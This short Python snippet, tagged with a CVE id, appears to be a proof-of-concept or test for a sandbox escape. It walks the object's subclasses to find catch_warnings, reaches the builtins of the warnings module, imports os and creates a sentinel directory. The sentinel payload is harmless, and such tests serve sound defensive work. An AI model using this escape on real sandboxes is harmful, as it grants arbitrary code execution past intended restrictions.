# CVE-2025-9959: warnings.catch_warnings()._module is the warnings module; its builtins import os.
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "catch_warnings":
        builtins = cls()._module.__builtins__
        builtins["__import__"]("os").mkdir(SENTINEL)
        break
